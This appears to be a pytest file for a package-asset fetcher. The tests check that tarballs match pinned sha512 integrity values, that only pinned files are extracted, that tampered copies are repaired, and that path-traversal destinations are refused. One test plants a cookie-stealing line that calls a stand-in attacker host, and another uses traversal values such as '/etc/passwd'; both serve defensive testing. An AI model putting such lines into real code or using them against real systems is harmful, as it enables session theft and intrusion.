# SPDX-License-Identifier: Apache-2.0
"""The npm fetcher (``safecity assets fetch``) on tarballs built here: it keeps only the pinned files,
refuses a tarball whose sha512 is not the pinned ``dist.integrity`` (naming the package, writing
nothing), skips a package already present and unchanged, and repairs one that changed. No network: the
download is a function returning the bytes a registry would."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from safecity.cli import app
from safecity.web import assets
from safecity.web.assets import AssetError, extract, fetch, integrity_of, is_current, load_pins, missing

FILES = {
    "package/dist/lib.esm.js": b"export default 42;\n",
    "package/dist/lib.css": b".x { color: red }\n",
    "package/dist/lib.js.map": b"{}",
    "package/README.md": b"# lib\n",
}


def _tgz(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, body in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def _pins(tmp_path: Path, integrity: str, dest: str = "lib.esm.js") -> Path:
    pins = tmp_path / "assets.toml"
    pins.write_text(
        f"""
[lib]
version = "1.0.0"
tarball = "https://registry.npmjs.org/lib/-/lib-1.0.0.tgz"
integrity = "{integrity}"

[lib.files]
"package/dist/lib.esm.js" = "{dest}"
"package/dist/lib.css" = "css/lib.css"
""",
        encoding="utf-8",
    )
    return pins


def test_a_good_tarball_is_extracted_once_and_only_its_pinned_files(tmp_path: Path) -> None:
    tarball = _tgz(FILES)
    pins = _pins(tmp_path, integrity_of(tarball))
    vendor = tmp_path / "vendor"
    asked: list[str] = []

    def download(url: str) -> bytes:
        asked.append(url)
        return tarball

    assert missing(vendor, pins) == ["lib"]
    assert fetch(vendor, pins, download=download, echo=lambda s: None) == 1
    assert asked == ["https://registry.npmjs.org/lib/-/lib-1.0.0.tgz"]
    assert (vendor / "lib" / "lib.esm.js").read_bytes() == FILES["package/dist/lib.esm.js"]
    assert (vendor / "lib" / "css" / "lib.css").read_bytes() == FILES["package/dist/lib.css"]
    written = sorted(str(p.relative_to(vendor)) for p in vendor.rglob("*") if p.is_file())
    assert written == ["lib/MANIFEST.json", "lib/css/lib.css", "lib/lib.esm.js"]  # no map, no README
    manifest = json.loads((vendor / "lib" / "MANIFEST.json").read_text())
    assert manifest["integrity"] == integrity_of(tarball) and manifest["version"] == "1.0.0"
    assert missing(vendor, pins) == []

    # present and unchanged: not downloaded again
    assert fetch(vendor, pins, download=download, echo=lambda s: None) == 0
    assert len(asked) == 1
    # a file changed on disk: the package is fetched again and repaired
    (vendor / "lib" / "lib.esm.js").write_bytes(b"export default 'tampered';\n")
    assert missing(vendor, pins) == ["lib"]
    assert fetch(vendor, pins, download=download, echo=lambda s: None) == 1
    assert (vendor / "lib" / "lib.esm.js").read_bytes() == FILES["package/dist/lib.esm.js"]


def test_a_tampered_tarball_is_refused_naming_the_package(tmp_path: Path) -> None:
    good = _tgz(FILES)
    pins = _pins(tmp_path, integrity_of(good))
    evil = _tgz({**FILES, "package/dist/lib.esm.js": b"fetch('https://evil.example/' + document.cookie);\n"})
    vendor = tmp_path / "vendor"
    with pytest.raises(AssetError) as e:
        fetch(vendor, pins, download=lambda url: evil, echo=lambda s: None)
    assert "lib 1.0.0" in e.value.message and "does not match" in e.value.message
    assert e.value.where == "lib"
    assert not vendor.exists()  # nothing written
    # one flipped byte is enough
    flipped = bytearray(good)
    flipped[len(flipped) // 2] ^= 0x01
    (pkg,) = load_pins(pins)
    with pytest.raises(AssetError, match="does not match"):
        extract(pkg, bytes(flipped), vendor)
    assert not is_current(pkg, vendor)


def test_a_pinned_file_missing_from_the_tarball_is_refused(tmp_path: Path) -> None:
    tarball = _tgz({k: v for k, v in FILES.items() if not k.endswith(".css")})
    pins = _pins(tmp_path, integrity_of(tarball))
    with pytest.raises(AssetError, match=r"no package/dist/lib\.css in the tarball"):
        fetch(tmp_path / "vendor", pins, download=lambda url: tarball, echo=lambda s: None)
    assert not (tmp_path / "vendor").exists()


@pytest.mark.parametrize("dest", ["../escape.js", "/etc/passwd", "MANIFEST.json"])
def test_a_destination_outside_the_package_folder_is_refused(tmp_path: Path, dest: str) -> None:
    with pytest.raises(AssetError, match="bad destination"):
        load_pins(_pins(tmp_path, "sha512-x", dest=dest))


def test_the_shipped_pins_are_the_registry_tarballs() -> None:
    pins = {p.name: p for p in load_pins()}
    assert pins["leaflet"].version == "1.9.4" and pins["uplot"].version.startswith("1.6.")
    for p in pins.values():
        assert p.tarball == f"https://registry.npmjs.org/{p.name}/-/{p.name}-{p.version}.tgz"
        assert p.integrity.startswith("sha512-") and len(p.integrity) == 7 + 88


def test_the_command_reports_what_is_present(tmp_path: Path) -> None:
    # the real vendor folder, filled by `make`: present, so no download is attempted
    if missing():
        pytest.skip("static/vendor is not filled yet (run `safecity assets fetch`)")
    result = CliRunner().invoke(app, ["assets", "fetch", "--vendor", str(assets.VENDOR)])
    assert result.exit_code == 0, result.output
    assert "0 downloaded" in result.output
